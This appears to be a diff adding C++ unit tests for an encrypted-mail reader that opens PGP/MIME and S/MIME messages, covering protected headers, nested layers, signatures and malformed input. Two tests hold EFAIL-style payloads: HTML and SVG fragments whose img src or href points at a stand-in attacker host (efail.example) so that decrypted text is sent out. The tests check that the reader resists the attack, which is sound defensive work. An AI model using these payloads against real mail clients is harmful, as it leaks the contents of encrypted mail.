@@ -1,0 +1,430 @@
+#include "mail/line_ends.hpp"
+#include "reader/open.hpp"
+#include "tests/support/catch.hpp"
+#include "tests/support/stub_engine.hpp"
+
+#include <string>
+
+using namespace lockbox;
+using namespace lockbox::reader;
+using lockbox::test::StubEngine;
+namespace stub = lockbox::test::stub;
+using lockbox::test::contains_text;
+
+namespace {
+
+const std::string header = "From: alice@example.org\r\nTo: bob@example.net\r\nSubject: [...]\r\n";
+const std::string text = "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nAttack at dawn.\r\n";
+const std::string html = "Content-Type: text/html\r\n\r\n<p>Attack at dawn.</p>\r\n";
+
+Opened opened(const std::string& message) {
+    StubEngine engine;
+    return open(message, engine);
+}
+
+std::string message_of(const Opened& result) {
+    return std::string(result.message.expose());
+}
+
+std::string mixed(const std::vector<std::string>& parts) {
+    std::string body = "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n";
+    for (const auto& part : parts) {
+        body += "--m\r\n" + part + "\r\n";
+    }
+    return body + "--m--\r\n";
+}
+
+std::string signed_part(const std::string& content, const std::string& signature) {
+    return "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; "
+           "boundary=\"s\"\r\n\r\n--s\r\n" +
+           content + "\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n" + signature +
+           "\r\n--s--\r\n";
+}
+
+bool holds(const Opened& result, std::string_view what) {
+    return result.message.expose().find(what) != std::string_view::npos;
+}
+
+} // namespace
+
+TEST_CASE("a message that is sealed as a whole opens to a message", "[reader]") {
+    const auto result = opened(header + stub::pgp_mime(text));
+    CHECK(result.outcome == Outcome::opened);
+    CHECK(result.protection == Protection::authenticated);
+    CHECK(result.recipients == std::vector<std::string>{"0123456789ABCDEF"});
+    CHECK(result.parts.empty());
+    CHECK(message_of(result) == header + text);
+}
+
+TEST_CASE("the line ends of an opened message are those of the file that it was in", "[reader]") {
+    CHECK(message_of(opened(mail::to_lf(header + stub::pgp_mime(text)))) == mail::to_lf(header + text));
+}
+
+TEST_CASE("protected header fields come from the root of what was sealed, and from nowhere else",
+          "[reader]") {
+    const std::string sealed = "Subject: Dawn\r\nFrom: alice@example.org\r\n"
+                               "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nAttack.\r\n";
+    const auto whole = opened(header + stub::pgp_mime(sealed));
+    CHECK(whole.header_was_protected);
+    CHECK(holds(whole, "Subject: Dawn\r\n"));
+    CHECK_FALSE(holds(whole, "[...]"));
+
+    const auto without_mark =
+        opened(header + stub::pgp_mime("Subject: Dawn\r\nContent-Type: text/plain\r\n\r\nAttack.\r\n"));
+    CHECK_FALSE(without_mark.header_was_protected);
+    CHECK(holds(without_mark, "[...]"));
+    CHECK_FALSE(holds(without_mark, "Dawn"));
+
+    const auto not_the_root = opened(header + stub::pgp_mime(mixed({sealed})));
+    CHECK_FALSE(not_the_root.header_was_protected);
+    CHECK(not_the_root.message.expose().starts_with(header));
+
+    const auto part = opened(header + mixed({stub::pgp_mime(sealed)}));
+    CHECK_FALSE(part.header_was_protected);
+    CHECK(part.message.expose().starts_with(header));
+    CHECK_FALSE(holds(part, "Dawn"));
+
+    const auto unsealed = opened("From: alice@example.org\r\nSubject: outside\r\n"
+                                 "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nAttack.\r\n");
+    CHECK(unsealed.outcome == Outcome::nothing_to_open);
+    CHECK_FALSE(unsealed.header_was_protected);
+}
+
+TEST_CASE("a From inside that names somebody else is not shown", "[reader]") {
+    const auto result =
+        opened(header + stub::pgp_mime("From: mallory@example.com\r\n"
+                                       "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nx\r\n"));
+    CHECK(holds(result, "From: alice@example.org\r\n"));
+    CHECK_FALSE(holds(result, "mallory"));
+    REQUIRE_FALSE(result.warnings.empty());
+    CHECK_THAT(result.warnings.front(), contains_text("mallory@example.com"));
+}
+
+TEST_CASE("PGP/MIME that Exchange mixed up is a whole message, unless there is text in front", "[reader]") {
+    const std::string control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
+    const auto data =
+        "Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n" + stub::armored(text);
+    const auto result = opened(header + mixed({"Content-Type: text/plain\r\n\r\n\r\n", control, data}));
+    CHECK(result.outcome == Outcome::opened);
+    CHECK(message_of(result) == header + text);
+
+    const auto with_text = opened(header + mixed({"\r\nRead this:", control, data}));
+    CHECK(with_text.outcome == Outcome::partly_sealed);
+    CHECK(with_text.protection == Protection::none);
+}
+
+TEST_CASE("the footer of a mailing list leaves the part sealed that is, and the rest as it was", "[reader]") {
+    const std::string footer = "Content-Type: text/plain\r\n\r\n-- \r\nlist footer";
+    const auto result = opened(header + mixed({stub::pgp_mime(text), footer}));
+    CHECK(result.outcome == Outcome::partly_sealed);
+    CHECK(result.protection == Protection::none);
+    REQUIRE(result.parts.size() == 1);
+    CHECK(result.parts[0].number == "1");
+    CHECK(result.parts[0].in_place);
+    CHECK(result.parts[0].protection == Protection::authenticated);
+    CHECK(message_of(result) == header + mixed({text, footer}));
+}
+
+TEST_CASE("nothing that was opened is put beside markup", "[reader]") {
+    // EFAIL, "direct exfiltration": the first part opens an attribute, the third closes it, and a reader that
+    // puts the parts together asks a server of the attacker's for the text between.
+    const auto before = GENERATE(
+        as<std::string>{}, "Content-Type: text/html\r\n\r\n<img src=\"http://efail.example/",
+        "Content-Type: TEXT/HTML; charset=utf-8\r\n\r\n<img src=\"http://efail.example/",
+        "Content-Type: image/svg+xml\r\n\r\n<svg><a href=\"http://efail.example/",
+        "Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<img src=\"http://efail.example/",
+        "Content-Type: application/xhtml+xml\r\n\r\n<img src=\"http://efail.example/",
+        "Content-Type: text/plain; name=a.html\r\n\r\n<img src=\"http://efail.example/",
+        "Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img "
+        "src=\"\r\n--x--\r\n");
+    CAPTURE(before);
+    const auto message = header + mixed({before, stub::pgp_mime(text), "Content-Type: text/html\r\n\r\n\">"});
+    const auto result = opened(message);
+    CHECK(result.outcome == Outcome::partly_sealed);
+    CHECK_FALSE(holds(result, "Attack"));
+    REQUIRE(result.parts.size() == 1);
+    CHECK_FALSE(result.parts[0].in_place);
+    CHECK(result.parts[0].entity.expose() == text);
+}
+
+TEST_CASE("an opened part with a delimiter of what is around it is not put in its place", "[reader]") {
+    const auto result =
+        opened(header + mixed({stub::pgp_mime("Content-Type: text/plain\r\n\r\none\r\n--m\r\n" + html)}));
+    CHECK(result.outcome == Outcome::partly_sealed);
+    CHECK(result.message.size() == 0);
+}
+
+TEST_CASE("text around armor makes a part of it", "[reader]") {
+    const auto message = header + "\r\nIn front.\r\n" + stub::armored("one") + "between\r\n" +
+                         stub::armored("two") + "behind\r\n";
+    const auto result = opened(message);
+    CHECK(result.outcome == Outcome::partly_sealed);
+    CHECK(result.message.size() == 0);
+    REQUIRE(result.parts.size() == 2);
+    CHECK(result.parts[0].number == "1#1");
+    CHECK(result.parts[0].entity.expose() == "\r\none");
+    CHECK(result.parts[1].number == "1#2");
+    CHECK(result.parts[1].entity.expose() == "\r\ntwo");
+}
+
+TEST_CASE("armor alone is a text", "[reader]") {
+    CHECK(message_of(opened(header + "\r\n" + stub::armored("Attack."))) == header + "\r\nAttack.");
+    const auto umlaut = opened(header + "\r\n" + stub::armored("\xc3\xa4"));
+    CHECK(holds(umlaut, "Content-Type: text/plain; charset=utf-8\r\n"));
+    CHECK(holds(umlaut, "Content-Transfer-Encoding: 8bit\r\n"));
+}
+
+TEST_CASE("armor in markup is not opened", "[reader]") {
+    const auto result =
+        opened(header + "Content-Type: text/html\r\n\r\n<pre>\r\n" + stub::armored("x") + "</pre>");
+    CHECK(result.outcome == Outcome::damaged);
+    CHECK(result.message.size() == 0);
+}
+
+TEST_CASE("encrypted files become attachments of the name without its suffix", "[reader]") {
+    const std::string file = "Content-Type: application/octet-stream\r\n"
+                             "Content-Disposition: attachment; filename=\"notes \xc3\xa4.pdf.gpg\"\r\n"
+                             "Content-Transfer-Encoding: 8bit\r\n\r\n" +
+                             stub::openpgp("%PDF");
+    const auto result = opened(header + mixed({"\r\nSee the file.", file}));
+    CHECK(result.outcome == Outcome::partly_sealed);
+    REQUIRE(result.parts.size() == 1);
+    CHECK(result.parts[0].in_place);
+    const auto message = message_of(result);
+    const auto root = mail::parse_entity(message);
+    REQUIRE(root.children.size() == 2);
+    CHECK(root.children[1].file_name() == "notes \xc3\xa4.pdf");
+    CHECK(root.children[1].is_attachment());
+    CHECK(root.children[1].decoded() == "%PDF");
+}
+
+TEST_CASE("a sealed message that lost its label is one", "[reader]") {
+    const auto result = opened(header + "Content-Type: application/octet-stream; name=\"msg.asc\"\r\n\r\n" +
+                               stub::armored(text));
+    CHECK(result.outcome == Outcome::opened);
+    CHECK(message_of(result) == header + text);
+}
+
+TEST_CASE("a forwarded message has a header section of its own", "[reader]") {
+    const std::string sealed = "Subject: Dawn\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nAttack.\r\n";
+    const std::string inner = "From: carol@example.com\r\nSubject: [...]\r\n";
+    const auto result = opened(header + mixed({"\r\nsee below", "Content-Type: message/rfc822\r\n\r\n" +
+                                                                    inner + stub::pgp_mime(sealed)}));
+    CHECK(result.outcome == Outcome::partly_sealed);
+    REQUIRE(result.parts.size() == 1);
+    CHECK(result.parts[0].number == "2");
+    CHECK(result.parts[0].in_place);
+    CHECK(holds(result, "Content-Type: message/rfc822\r\n\r\nFrom: carol@example.com\r\nSubject: Dawn\r\n"));
+    CHECK(result.message.expose().starts_with(header));
+}
+
+TEST_CASE("layers are taken off one after the other", "[reader]") {
+    const auto inner = stub::pgp_mime(text);
+    const auto result = opened(header + stub::smime(stub::enveloped, inner));
+    CHECK(result.outcome == Outcome::opened);
+    CHECK(result.layers ==
+          std::vector<std::string>{"S/MIME, EnvelopedData, AES-256-CBC", "OpenPGP, PGP/MIME"});
+    CHECK(result.protection == Protection::authenticated); // of the inner one
+    CHECK(message_of(result) == header + text);
+
+    std::string deep = text;
+    for (unsigned i = 0; i < layers_max; ++i) {
+        deep = stub::pgp_mime(deep);
+    }
+    CHECK(opened(header + deep).outcome == Outcome::opened);
+    const auto too_deep = opened(header + stub::pgp_mime(deep));
+    REQUIRE(too_deep.parts.size() == 1);
+    CHECK(too_deep.parts[0].number == "all");
+    CHECK_THAT(too_deep.parts[0].reason, contains_text("more than 8 layers"));
+    CHECK_FALSE(holds(too_deep, "Attack"));
+}
+
+TEST_CASE("sealed parts inside each other are opened to a depth", "[reader]") {
+    std::string deep = text;
+    for (int i = 0; i < 20; ++i) {
+        deep = mixed({stub::pgp_mime(deep)});
+    }
+    const auto result = opened(header + deep);
+    CHECK(result.outcome == Outcome::partly_sealed);
+    CHECK_FALSE(holds(result, "Attack"));
+    const auto& innermost = result.parts.back();
+    CHECK(innermost.outcome == Outcome::damaged);
+    CHECK_THAT(innermost.reason, contains_text("more than 8"));
+}
+
+TEST_CASE("no more parts are opened than anybody sends", "[reader]") {
+    StubEngine engine;
+    const auto result = open(header + mixed(std::vector<std::string>(150, stub::pgp_mime(text))), engine);
+    CHECK(engine.decryptions == sealed_parts_max);
+    CHECK_THAT(result.parts.back().reason, contains_text("more than 100 sealed parts"));
+}
+
+TEST_CASE("what an S/MIME message without integrity opens to must be text as mail has it", "[reader]") {
+    using namespace std::string_literals;
+    CHECK(opened(header + stub::smime(stub::enveloped, text)).protection == Protection::without_integrity);
+    const auto altered = GENERATE(
+        as<std::string>{},
+        "Content-Type: text/html\r\n\r\n<img src=\"\x9f\x81\x03\x11 http://efail.example/Attack",
+        "Content-Ty\x01pe: text/html\r\n\r\nAttack",
+        "Subject: \xff\xfe\r\nContent-Type: text/plain\r\n\r\nAttack",
+        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nQXR0YWNr\x80\x81",
+        "Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nAttack\x80",
+        "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\nAttack \x05",
+        "Content-Type: multipart/mixed; boundary=x\r\n\r\n\x80\x81\r\n--x\r\n\r\nAttack\r\n--x--\r\n",
+        "Content-Type: text/html\r\nContent-Transfer-Encoding: binary\r\n\r\n\x80\x81 Attack",
+        "Content-Type: text/plain\r\n\r\nAttack\0"s);
+    CAPTURE(altered);
+    const auto result = opened(header + stub::smime(stub::enveloped, altered));
+    CHECK(result.outcome == Outcome::damaged);
+    CHECK(result.protection == Protection::none);
+    CHECK(result.message.size() == 0);
+    CHECK(result.parts.empty());
+    CHECK(opened(header + stub::smime(stub::auth_enveloped, altered)).outcome == Outcome::opened);
+    CHECK(opened(header + stub::smime(stub::enveloped, stub::smime(stub::signed_data, altered))).outcome ==
+          Outcome::opened);
+}
+
+TEST_CASE("mail in any charset may be sealed without integrity", "[reader]") {
+    const auto payload = GENERATE(
+        as<std::string>{}, "Content-Type: text/plain; charset=utf-8\r\n\r\n\xc3\xa4\xe2\x82\xac\r\n",
+        "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\xe4\r\n",
+        "Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b$B$\"\x1b(B\r\n",
+        "Content-Type: application/pdf\r\nContent-Transfer-Encoding: binary\r\n\r\n%PDF\x80\x01\r\n",
+        "Subject: \xc3\xa4\r\nContent-Type: text/plain\r\n\r\n\tx\x0c\r\n",
+        "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\none\r\n--x\r\n\r\ntwo\r\n--x--\r\n");
+    CAPTURE(payload);
+    CHECK(opened(header + stub::smime(stub::enveloped, payload)).outcome == Outcome::opened);
+}
+
+TEST_CASE("a signature counts for what it covers", "[reader]") {
+    const auto inside = opened(header + stub::pgp_mime(signed_part(text, "good alice@example.org")));
+    REQUIRE(inside.signatures.size() == 1);
+    CHECK(inside.signatures[0].proves_sender());
+    CHECK(holds(inside, "\r\n\r\n--s\r\n" + text + "\r\n--s\r\n")); // for others to verify
+
+    // Anybody can sign what somebody else sealed.
+    const auto around = opened(header + signed_part(stub::pgp_mime(text), "good alice@example.org"));
+    CHECK(around.outcome == Outcome::opened);
+    REQUIRE(around.signatures.size() == 1);
+    CHECK(around.signatures[0].is_around_encryption);
+    CHECK_FALSE(around.signatures[0].proves_sender());
+    CHECK(message_of(around) == header + text);
+
+    const auto part =
+        opened(header + stub::pgp_mime(mixed({signed_part(text, "good alice@example.org"), text})));
+    CHECK(part.signatures.empty());
+    REQUIRE(part.parts.size() == 1);
+    CHECK(part.parts[0].number == "1");
+    CHECK(part.parts[0].signatures.size() == 1);
+
+    const auto other = opened(header + stub::pgp_mime(signed_part(text, "good mallory@example.com")));
+    CHECK_FALSE(other.signatures.at(0).proves_sender());
+
+    const auto only_signed = opened(header + signed_part(text, "good alice@example.org"));
+    CHECK(only_signed.outcome == Outcome::nothing_to_open);
+    CHECK(only_signed.protection == Protection::none);
+    CHECK(only_signed.signatures.size() == 1);
+    CHECK(only_signed.message.size() == 0);
+}
+
+TEST_CASE("a sealed part inside of a signature stays there", "[reader]") {
+    const auto result =
+        opened(header + signed_part(mixed({stub::pgp_mime(text), "\r\nfooter"}), "good alice@example.org"));
+    CHECK(result.outcome == Outcome::partly_sealed);
+    CHECK(result.message.size() == 0);
+    REQUIRE(result.parts.size() == 1);
+    CHECK(result.parts[0].entity.expose() == text);
+}
+
+TEST_CASE("why nothing was opened is said, and never taken for something else", "[reader]") {
+    const auto no_key = opened(header + stub::pgp_mime("!no-key"));
+    CHECK(no_key.outcome == Outcome::no_key);
+    CHECK(no_key.reason == "no secret key here opens this message");
+    CHECK(no_key.message.size() == 0);
+    CHECK(opened(header + stub::pgp_mime("!damaged")).outcome == Outcome::damaged);
+    CHECK(opened(header + "\r\ntext\r\n").outcome == Outcome::nothing_to_open);
+    CHECK(opened("").outcome == Outcome::nothing_to_open);
+
+    const auto part = opened(header + mixed({stub::pgp_mime("!no-key"), "\r\nfooter"}));
+    CHECK(part.outcome == Outcome::no_key);
+    CHECK(part.reason == "part 1: no secret key here opens this message");
+
+    const auto one_of_two = opened(header + mixed({stub::pgp_mime("!no-key"), stub::pgp_mime(text)}));
+    CHECK(one_of_two.outcome == Outcome::partly_sealed);
+    CHECK(holds(one_of_two, stub::pgp_mime("!no-key")));
+    CHECK(holds(one_of_two, "Attack"));
+
+    const auto inner = opened(header + stub::pgp_mime(stub::smime(stub::enveloped, "!no-key")));
+    CHECK(inner.outcome == Outcome::opened);
+    REQUIRE(inner.parts.size() == 1);
+    CHECK(inner.parts[0].number == "all");
+    CHECK(inner.parts[0].outcome == Outcome::no_key);
+}
+
+TEST_CASE("what says that it is sealed and is not in such a form is refused with the reason", "[reader]") {
+    struct Case {
+        std::string message, reason;
+    };
+    const auto third = [] {
+        auto sealed = stub::pgp_mime(text);
+        return sealed.insert(sealed.rfind("--=_b--"), "--=_b\r\n\r\nthird\r\n");
+    }();
+    const auto c = GENERATE_COPY(values<Case>({
+        {"Content-Type: multipart/encrypted; protocol=\"application/x-other\"; boundary=b\r\n\r\n--b--\r\n",
+         "application/x-other"},
+        {third, "3 parts and not 2"},
+        {stub::pgp_mime(text).substr(0, 380), "cut off"},
+        {stub::pgp_mime(text) + "see https://example.com\r\n", "text stands beside its parts"},
+        {"Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nnonsense\r\n", "damaged"},
+        {"Content-Type: text/plain\r\n" + stub::pgp_mime(text), "two Content-Type fields"},
+        {"Content-Type: application/octet-stream; name=x.asc\r\n\r\n-----BEGIN PGP "
+         "MESSAGE-----\r\n\r\nxx\r\n",
+         "damaged, or not alone"},
+        {"\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nxx\r\n", "damaged"},
+    }));
+    CAPTURE(c.message);
+    const auto result = opened(header + c.message);
+    CHECK(result.outcome == Outcome::damaged);
+    CHECK_THAT(result.reason, contains_text(c.reason));
+    CHECK(result.message.size() == 0);
+}
+
+TEST_CASE("data without a message around it opens to data", "[reader]") {
+    const auto armored = opened(stub::armored("one\ntwo"));
+    CHECK(armored.is_bare_data);
+    CHECK(message_of(armored) == "one\ntwo");
+    CHECK(message_of(opened(stub::openpgp("one\r\ntwo"))) == "one\r\ntwo");
+    const auto cms = opened(stub::cms(stub::auth_enveloped, "three"));
+    CHECK(cms.is_bare_data);
+    CHECK(message_of(cms) == "three");
+}
+
+TEST_CASE("Legacy Display Elements go, and nothing else", "[reader]") {
+    const auto field =
+        "Content-Type: text/plain; hp-legacy-display=\"1\"; hp=\"cipher\"\r\nSubject: Dawn\r\n";
+    const auto root =
+        opened(header + stub::pgp_mime(std::string(field) + "\r\nSubject: Dawn\r\n\r\nAttack.\r\n"));
+    CHECK(message_of(root).ends_with("\r\n\r\nAttack.\r\n"));
+    CHECK_FALSE(holds(root, "hp-legacy-display"));
+
+    const std::string alternative =
+        "Content-Type: multipart/alternative; hp=\"cipher\"; boundary=a\r\n\r\n--a\r\n"
+        "Content-Type: text/plain; hp-legacy-display=1\r\n\r\nSubject: Dawn\r\n\r\nAttack.\r\n--a\r\n"
+        "Content-Type: text/html; hp-legacy-display=1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"
+        "<html><body><div class=3D\"header-protection-legacy-display\"><pre>Subject: Dawn</pre></div>"
+        "<p>Attack.</p></body></html>\r\n--a--\r\n";
+    const auto both = message_of(opened(header + stub::pgp_mime(alternative)));
+    const auto parsed = mail::parse_entity(both);
+    REQUIRE(parsed.children.size() == 2);
+    CHECK(parsed.children[0].body == "Attack.");
+    CHECK(parsed.children[1].decoded() == "<html><body><p>Attack.</p></body></html>");
+
+    // Not the root: hp is, so the mark means nothing. And an attachment is no Main Body Part.
+    const std::string marked = "Content-Type: text/plain; hp-legacy-display=1\r\n";
+    CHECK(holds(opened(header + stub::pgp_mime(marked + "\r\nSubject: x\r\n\r\nAttack.\r\n")),
+                "Subject: x\r\n\r\nAtt"));
+    const auto attached =
+        "Content-Type: multipart/mixed; hp=\"cipher\"; boundary=a\r\n\r\n--a\r\n\r\none\r\n--a\r\n" + marked +
+        "Content-Disposition: attachment\r\n\r\nSubject: x\r\n\r\ntwo\r\n--a--\r\n";
+    CHECK(holds(opened(header + stub::pgp_mime(attached)), "Subject: x\r\n\r\ntwo"));
+}
